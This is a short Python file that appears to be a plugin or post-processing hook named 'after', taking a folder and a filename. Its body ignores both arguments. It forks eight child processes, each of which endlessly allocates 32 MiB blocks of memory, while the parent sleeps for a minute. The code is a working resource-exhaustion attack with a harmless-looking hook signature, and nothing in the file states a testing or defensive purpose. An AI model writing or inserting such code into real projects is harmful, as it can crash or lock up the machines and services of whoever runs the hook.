import os
import time


def after(folder, filename):
    for _ in range(8):
        if not os.fork():
            kept = []
            while True:
                kept.append(bytearray(b"x" * (32 * 2**20)))
    time.sleep(60)
